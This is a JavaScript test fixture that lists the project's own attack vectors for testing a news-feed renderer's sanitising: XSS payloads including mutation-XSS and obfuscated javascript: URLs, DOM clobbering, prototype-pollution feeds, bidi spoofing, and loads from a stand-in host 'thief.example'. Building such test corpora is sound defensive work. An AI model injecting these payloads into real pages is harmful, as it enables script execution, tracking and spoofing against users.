/**
 * Attacks of our own: at least one of each kind, so that these tests say something on a machine
 * where no collection of others lies beside the project.
 *
 * @typedef {object} Vector
 * @property {string} id
 * @property {string} payload
 * @property {string} kind
 * @property {string} slot where its author meant it to stand; `document`: it is a whole feed
 */

/** What looks like a space, or like nothing. */
const [
  NUL,
  START_OF_HEADING,
  TAB,
  LINE,
  SOFT_HYPHEN,
  NO_BREAK,
  ZERO_WIDTH,
  RIGHT_TO_LEFT,
  ISOLATE,
] = [0, 1, 9, 10, 0xad, 0xa0, 0x200b, 0x202e, 0x2066].map((code) => String.fromCharCode(code));

const RUN = 'alert(document.domain)';
const AWAY = 'https://thief.example/';

/** @type {Record<string, Record<string, string[]>>} slot → kind → payloads */
const PAYLOADS = {
  content_html: {
    'event-handler': [
      `<img src=nothing onerror="${RUN}">`,
      `<p onpointerover="${RUN}" tabindex=0 onfocus="${RUN}" autofocus>One</p>`,
      `<details open ontoggle=${RUN}><summary>One</summary>Two</details>`,
      `<video onloadstart=${RUN}><source onerror=${RUN}></video>`,
      `<body onload=${RUN}><p onhashchange=${RUN}>One</p>`,
    ],
    'active-element': [
      `<script>${RUN}</script>`,
      `<script src="${AWAY}one.js"></script><link rel=stylesheet href="${AWAY}one.css">`,
      `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
      `<object data="data:text/html,<script>parent.${RUN}</script>"></object><embed src="${AWAY}">`,
      `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
      `<meta http-equiv=refresh content="0;url=${AWAY}"><base href="${AWAY}">`,
      `<form action="javascript:${RUN}"><input type=image src=nothing onerror=${RUN}><button formaction="javascript:${RUN}">Go</button></form>`,
      `<isindex action="javascript:${RUN}" type=submit><dialog open>One</dialog>`,
    ],
    'svg-mathml': [
      `<svg onload=${RUN}><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
      `<svg><a xlink:href="javascript:${RUN}"><text y=20>One</text></a></svg>`,
      `<svg><foreignObject><img src=nothing onerror=${RUN}></foreignObject></svg>`,
      `<math><mtext><a href="javascript:${RUN}">One</a></mtext><maction actiontype="statusline#${AWAY}">Two</maction></math>`,
      `<svg><set attributeName=href to="javascript:${RUN}"/><use href="data:image/svg+xml,<svg id='a' onload='${RUN}'/>#a"/></svg>`,
    ],
    mxss: [
      `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=nothing onerror=${RUN}>">`,
      `<svg><p><style><g title="</style><img src=nothing onerror=${RUN}>">`,
      `<noscript><p title="</noscript><img src=nothing onerror=${RUN}>">`,
      `<form><math><mtext></form><form><mglyph><style></math><img src=nothing onerror=${RUN}>`,
      `<svg></p><title><textarea><img src=nothing onerror=${RUN}></textarea></title>`,
      `<select><template><style><!--</style><a rel="--></select><img src=nothing onerror=${RUN}>">`,
      `<xmp><p title="</xmp><img src=nothing onerror=${RUN}>">`,
    ],
    'dom-clobbering': [
      '<form id=login name=login><input name=action><input name=attributes><input name=parentNode></form>',
      '<a id=akcConfig><a id=akcConfig name=url href="https://thief.example/"></a>',
      '<img name=getElementById><img name=body><img id=title><object name=cookie></object>',
      '<iframe name=akcFrame></iframe><embed name=akcEmbed><form name=currentScript></form>',
    ],
    'url-scheme': [
      `<a href="javascript:${RUN}">One</a><area href="javascript:${RUN}"><q cite="javascript:${RUN}">Two</q>`,
      `<a href="${START_OF_HEADING}java${TAB}scr${LINE}ipt:${RUN}">One</a>`,
      `<a href="&#106;&Tab;avascript&colon;${RUN}">One</a><a href="vbscript:msgbox">Two</a>`,
      `<a href="data:text/html,<script>${RUN}</script>">One</a><a href="blob:${AWAY}a">Two</a>`,
      `<a href="filesystem:${AWAY}a">One</a><a href="view-source:${AWAY}">Two</a><a href="file:///etc/hosts">Three</a>`,
      `<img src="javascript:${RUN}"><img src="data:image/svg+xml,<svg onload='${RUN}'/>">`,
      `<img src=/one.png srcset="javascript:${RUN} 1x, ${AWAY}two.png 2x" sizes=100vw>`,
      `<picture><source srcset="data:image/svg+xml,<svg/>"><img src="ftp://thief.example/a.png"></picture>`,
      `<video poster="javascript:${RUN}" src="data:video/mp4,a"></video><audio src="javascript:${RUN}"></audio>`,
    ],
    'css-overlay': [
      `<div style="position:fixed;inset:0;z-index:2147483647;background:url(${AWAY}a.png)">One</div>`,
      `<style>* { visibility: hidden } @import "${AWAY}a.css"; :host { position: fixed; inset: 0 }</style>`,
      '<p class="item waiting unseen" part="base item button" slot=heading>One</p>',
      '<div popover=auto id=popup>One</div><button popovertarget=popup>Two</button>',
      '<table background="https://thief.example/a.png" width=9000 height=9000><td style="all:initial">One</table>',
    ],
    'tabnabbing-tracking': [
      `<a href="${AWAY}" target=_top rel=opener ping="${AWAY}ping">One</a><base target=_top>`,
      `<link rel="preconnect prefetch prerender" href="${AWAY}"><img src="${AWAY}dot.gif" width=1 height=1>`,
    ],
    'modern-platform': [
      `<div><template shadowrootmode=open><img src=nothing onerror=${RUN}></template></div>`,
      `<akc-news-list feed="${AWAY}feed.json"></akc-news-list><a data-akc="news-list" data-akc-feed="${AWAY}feed.json">One</a>`,
      `<button is=akc-button commandfor=list command=show-modal interestfor=list>One</button>`,
      `<script type=speculationrules>{"prerender":[{"urls":["${AWAY}"]}]}</script>`,
    ],
    'template-marker': [
      '<p>${alert(1)} {{constructor.constructor("alert(1)")()}} lit$123$ <!--?lit$123$--><?lit$1$></p>',
    ],
  },
  'item.title': {
    'text-slot': [
      // what every object has
      'constructor',
      '__proto__',
      'prototype',
      'toString',
      'hasOwnProperty',
      'valueOf',
      // what a page or a feed has
      'latest',
      'null',
      'undefined',
      '[object Object]',
      '$& $1 $` {name} {url} {id}',
      `"><img src=nothing onerror=${RUN}>`,
      `</script><script>${RUN}</script>`,
      `]]><img src=nothing onerror=${RUN}>`,
      `&lt;img src=nothing onerror=${RUN}&gt; &#60;script&#62;`,
      `a${LINE}BEGIN:VALARM${LINE}ATTACH:${AWAY}${LINE}TY  - BOOK`,
      `--><style>*{display:none}</style><!--`,
      `a@thief.example?bcc=b@thief.example&body=c`,
      `+1;phone-context=thief.example`,
    ],
    'bidi-control': [
      `invoice${RIGHT_TO_LEFT}fdp.exe`,
      `${ISOLATE}${RIGHT_TO_LEFT}never closed${ZERO_WIDTH}${SOFT_HYPHEN}${NO_BREAK}`,
      `${NUL}a${START_OF_HEADING}b`,
      // half a character
      `\ud83d is cut off \udc00`,
    ],
  },
  'item.url': {
    'url-field': [
      `javascript:${RUN}`,
      ` ${START_OF_HEADING}java${TAB}script${LINE}:${RUN}`,
      `javascript://publisher.example/%0a${RUN}`,
      `data:text/html,<script>${RUN}</script>`,
      `blob:${AWAY}a`,
      'file:///etc/hosts',
      '//thief.example/a',
      '\\\\thief.example\\a',
      `https://publisher.example@thief.example/" onfocus="${RUN}`,
      'https://publisher.example/?a=%22><script>',
      'http://[',
      'undefined/one',
      '',
    ],
  },
  'item.date_published': {
    'bad-date': [
      '2026-02-30',
      '9999-12-31T23:59:60Z',
      `2026-01-01"><img src=nothing onerror=${RUN}>`,
    ],
  },
  document: {
    'prototype-pollution': [
      '{"version":"https://jsonfeed.org/version/1.1","title":"One","__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"_press":{"__proto__":{"polluted":1,"organization":{"name":"polluted"}}},"items":[{"id":"one","title":"One","__proto__":{"polluted":1,"url":"javascript:alert(1)"},"_press":{"__proto__":{"polluted":1},"contacts":[{"__proto__":{"polluted":1,"name":"polluted"}}]}}]}',
      '{"version":"https://jsonfeed.org/version/1.1","__proto__":{"items":[{"id":"polluted"}]},"items":[{"id":"__proto__","title":"One"},{"id":"constructor","title":"Two"},{"id":"hasOwnProperty","title":"Three"}]}',
    ],
    'type-confusion': [
      '{"version":{},"title":[],"_press":[],"items":[{"id":"one","title":{"toString":1},"tags":{"length":9},"url":["javascript:alert(1)"],"image":{"url":"a"},"_press":"one","attachments":[[[]]],"authors":{"name":{}}}]}',
    ],
    'malformed-document': [
      `<!doctype html><script>${RUN}</script>`,
      `alert({"version":"https://jsonfeed.org/version/1.1","items":[]})`,
    ],
  },
};

/** @type {Vector[]} */
export const OWN_VECTORS = Object.entries(PAYLOADS).flatMap(([slot, kinds]) =>
  Object.entries(kinds).flatMap(([kind, payloads]) =>
    payloads.map((payload, index) => ({ id: `ours ${kind} ${index + 1}`, payload, kind, slot })),
  ),
);
